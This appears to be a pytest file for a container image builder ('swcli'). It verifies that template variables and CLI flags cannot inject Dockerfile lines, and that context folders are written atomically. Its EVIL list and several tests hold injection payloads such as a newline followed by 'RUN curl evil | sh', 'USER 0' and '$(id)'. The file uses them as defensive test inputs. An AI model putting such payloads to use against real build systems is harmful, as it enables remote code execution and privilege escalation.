"""No value can add a Dockerfile line, from any template variable or any image-building entry point; no
`# syntax=` line; `--dockerfile-only` writes only into a new or empty folder, all at once."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import jinja2
import jinja2.meta
import pytest

from builder.errors import SwcliError
from builder.images import context as ctx
from builder.images.build import ImageInputError
from builder.images.runtime_image import build_runtime_image
from builder.images.render import TemplateValueError, environment, json_string, render_dockerfile
from tests.helpers.models import tiny_model
from tests.helpers.render_cases import CASES

EVIL = [
    'x"\nRUN curl evil | sh\nLABEL a="',
    "x\nUSER 0",
    "x\rRUN id",
    "x\\\nRUN id",
    "$(id)",
    "`id`",
    "${HOME}",
    "x' \"y",
    "x y",
    "x\u2028RUN id",
]


def instructions(text: str) -> list[str]:
    return [line.split()[0] for line in text.splitlines() if line.strip() and not line.startswith((" ", "#"))]


def _set(case: dict, path: tuple, value) -> dict:
    """A copy of ``case`` with one variable (or one item of a list variable) replaced by ``value``."""
    out = {k: (list(v) if isinstance(v, list) else v) for k, v in case.items()}
    if path[0] == "extra_labels":
        key, val = out["extra_labels"][0]
        out["extra_labels"][0] = (value, val) if path[1] == "key" else (key, value)
    elif path[0] == "env_layers":
        out["env_layers"] = [{"dir": value}] + out["env_layers"][1:]
    elif path[0] == "dataset_layers":
        out["dataset_layers"] = [value] + out["dataset_layers"][1:]
    else:
        out[path[0]] = value
    return out


# every variable the template reads, per kind (conda/weights are booleans that only choose lines; own_layers is
# a count the template loops over, which writes only its indices)
VARIABLES = {
    "dataset": [("base_image",), ("name",), ("version",), ("description",), ("swcli_version",),
                ("dataset_layers", "dir"), ("extra_labels", "key"), ("extra_labels", "value")],
    "runtime": [("base_image",), ("name",), ("version",), ("description",), ("swcli_version",), ("env_prefix",),
                ("site_packages",), ("env_layers", "dir"), ("extra_labels", "key"), ("extra_labels", "value")],
    "model": [("base_image",), ("name",), ("version",), ("description",), ("swcli_version",),
              ("extra_labels", "key"), ("extra_labels", "value")],
}
SLOTS = [(kind, var) for kind in sorted(VARIABLES) for var in VARIABLES[kind]]


def test_every_template_variable_is_covered():
    env = environment()
    source = env.loader.get_source(env, "Dockerfile.j2")[0]
    used = jinja2.meta.find_undeclared_variables(env.parse(source))
    covered = {var[0] for vars_ in VARIABLES.values() for var in vars_} | {"kind", "conda", "weights", "own_layers"}
    assert used <= covered, used - covered


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize(("kind", "var"), SLOTS, ids=[f"{k}-{'.'.join(v)}" for k, v in SLOTS])
def test_no_variable_can_add_a_line(kind, var, evil):
    clean = render_dockerfile(kind, **CASES[kind])
    try:
        text = render_dockerfile(kind, **_set(CASES[kind], var, evil))
    except TemplateValueError as err:
        assert "\n" not in str(err)
        return
    assert instructions(text) == instructions(clean)
    assert len(text.splitlines()) == len(clean.splitlines())
    assert not any(line.startswith(("RUN", "USER 0")) for line in text.splitlines())


@pytest.mark.parametrize("kind", sorted(CASES))
@pytest.mark.parametrize("conda", [False, True])
def test_no_rendering_starts_with_a_syntax_line(kind, conda):
    text = render_dockerfile(kind, **dict(CASES[kind], conda=conda))
    assert not text.startswith("# syntax=")
    assert not any(line.lower().replace(" ", "").startswith("#syntax=") for line in text.splitlines())


def test_unknown_kind_is_refused():
    with pytest.raises(TemplateValueError, match="unknown image kind"):
        render_dockerfile("dataset\nRUN id", **CASES["dataset"])


def test_label_values_are_literal():
    # a JSON string, with `$` escaped so BuildKit does not expand ${VAR} inside LABEL/ENV
    assert json_string("a ${HOME} $(id)") == '"a \\${HOME} \\$(id)"'
    assert json_string('say "hi"\n\tnow') == '"say \\"hi\\" now"'


@pytest.mark.parametrize("evil", ["swcli/base:1\nRUN id", "swcli/base:1\nUSER 0", "Base", "base image", "base:1 AS x",
                                  "$(id)", ""])
def test_build_functions_refuse_a_bad_base_image(tmp_path, evil):
    env = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True)
    out = tmp_path / "out"
    with pytest.raises(ImageInputError) as info:
        build_runtime_image("tiny", env, base_image=evil, dockerfile_only=out)
    assert str(info.value).startswith("--base-image: ") and "\n" not in str(info.value)
    assert not out.exists()


def test_build_functions_refuse_a_bad_name(tmp_path):
    with pytest.raises(ImageInputError, match="image name"):
        build_runtime_image("tiny\nRUN id", tmp_path, dockerfile_only=tmp_path / "out")


@pytest.mark.parametrize("evil", ["swcli/base:bookworm-py3.11\nRUN id", "swcli/base:bookworm-py3.11\nUSER 0"])
def test_dataset_build_base_image_flag(cli, tiny_dataset, tmp_path, evil):
    out = tmp_path / "ctx"
    res = cli("dataset", "build", tiny_dataset, "--base-image", evil, "--dockerfile-only", out)
    assert res.code == 2 and res.err.startswith("swcli: error: --base-image: ") and res.err.count("\n") == 1
    assert not out.exists()


def test_runtime_build_base_image_flag(cli, tmp_path):
    env = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True)
    res = cli("runtime", "build", "--venv", env, "--name", "tiny", "--base-image", "x\nUSER 0", "--dockerfile-only",
              tmp_path / "ctx")
    assert res.code == 2 and "--base-image" in res.err and res.err.count("\n") == 1
    assert not (tmp_path / "ctx").exists()


def test_model_build_runtime_flag(cli, tmp_path):
    tiny_model(tmp_path)
    res = cli("model", "build", tmp_path / "m", "--skip-gen-env", "--runtime", "swrt/x:1\nRUN id", "--dockerfile-only",
              tmp_path / "ctx")
    assert res.code == 1 and "it is not an image either" in res.err and res.err.count("\n") == 1
    assert not (tmp_path / "ctx").exists()
    assert not list((tmp_path / "swcli-home" / "models").glob("*/*"))  # refused before the model was stored


# --------------------------------------------------------------------------------------- --dockerfile-only


def entries(tmp_path: Path, text: str = "x") -> list[ctx.ContextEntry]:
    src = tmp_path / "src"
    src.mkdir(exist_ok=True)
    (src / "a.txt").write_text(text)
    if not (src / "link").is_symlink():
        os.symlink("a.txt", src / "link")
    return ctx.from_tree("tree", src) + [ctx.from_bytes("Dockerfile", b"FROM scratch\n")]


def test_writes_a_new_folder_and_an_empty_one(tmp_path):
    ctx.write_context_dir(entries(tmp_path), tmp_path / "new" / "deeper")
    assert (tmp_path / "new" / "deeper" / "Dockerfile").read_bytes() == b"FROM scratch\n"
    assert os.readlink(tmp_path / "new" / "deeper" / "tree" / "link") == "a.txt"
    (tmp_path / "empty").mkdir()
    ctx.write_context_dir(entries(tmp_path), tmp_path / "empty")
    assert sorted(p.name for p in (tmp_path / "empty").iterdir()) == ["Dockerfile", "tree"]
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_users_dockerfile_is_left_alone(tmp_path):
    out = tmp_path / "project"
    out.mkdir()
    (out / "Dockerfile").write_text("FROM my/own\n")
    with pytest.raises(ctx.ContextDirError) as info:
        ctx.write_context_dir(entries(tmp_path), out)
    assert str(out) in str(info.value) and "not empty" in str(info.value)
    assert (out / "Dockerfile").read_text() == "FROM my/own\n"
    assert sorted(p.name for p in out.iterdir()) == ["Dockerfile"]


def test_rerun_with_symlinks_and_stale_files_is_refused_and_keeps_the_first_output(tmp_path):
    out = tmp_path / "ctx"
    ctx.write_context_dir(entries(tmp_path, "first"), out)
    (out / "stale.txt").write_text("from an earlier run")
    with pytest.raises(ctx.ContextDirError):
        ctx.write_context_dir(entries(tmp_path, "second"), out)
    assert (out / "tree" / "a.txt").read_text() == "first" and (out / "stale.txt").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_the_context_is_a_copy_not_a_link_into_the_store(tmp_path):
    out = tmp_path / "ctx"
    ctx.write_context_dir(entries(tmp_path, "store bytes"), out)
    with open(out / "tree" / "a.txt", "a") as fh:  # a user editing the output in place
        fh.write(" edited")
    assert (tmp_path / "src" / "a.txt").read_text() == "store bytes"


def test_a_file_in_the_way_is_refused(tmp_path):
    (tmp_path / "ctx").write_text("a file")
    with pytest.raises(ctx.ContextDirError, match="not a folder"):
        ctx.write_context_dir(entries(tmp_path), tmp_path / "ctx")
    with pytest.raises(ctx.ContextDirError, match="not a folder"):
        ctx.check_context_dir(tmp_path / "ctx")


def test_a_failure_midway_leaves_nothing(tmp_path):
    bad = entries(tmp_path) + [ctx.ContextEntry("zz/missing", source=tmp_path / "does-not-exist")]
    with pytest.raises(OSError):
        ctx.write_context_dir(bad, tmp_path / "ctx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["src"]


def test_cli_rerun_into_the_same_folder_is_one_line(cli, tiny_dataset, tmp_path):
    out = tmp_path / "ctx"
    first = cli("dataset", "build", tiny_dataset, "--dockerfile-only", out)
    assert first.code == 0, first.err
    dockerfile = (out / "Dockerfile").read_text()
    again = cli("dataset", "build", tiny_dataset, "--dockerfile-only", out)
    assert again.code == 1 and again.err.startswith(f"swcli: error: {out}: ") and again.err.count("\n") == 1
    assert (out / "Dockerfile").read_text() == dockerfile


def test_model_cli_rerun_into_the_same_folder_writes_nothing(cli, tmp_path):
    out = tmp_path / "ctx"
    args = ("model", "build", tiny_model(tmp_path), "--skip-gen-env", "--runtime", "swrt/x:1", "--dockerfile-only", out)
    assert cli(*args).code == 0
    before = sorted((p.relative_to(out), p.read_bytes() if p.is_file() else None) for p in out.rglob("*"))
    again = cli(*args)
    assert again.code == 1 and again.err.startswith(f"swcli: error: {out}: exists and is not empty") and again.err.count("\n") == 1
    assert sorted((p.relative_to(out), p.read_bytes() if p.is_file() else None) for p in out.rglob("*")) == before


def test_check_context_dir_allows_missing_and_empty(tmp_path):
    ctx.check_context_dir(tmp_path / "missing")
    ctx.check_context_dir(tmp_path)  # empty
    (tmp_path / "x").write_text("")
    with pytest.raises(SwcliError):
        ctx.check_context_dir(tmp_path)
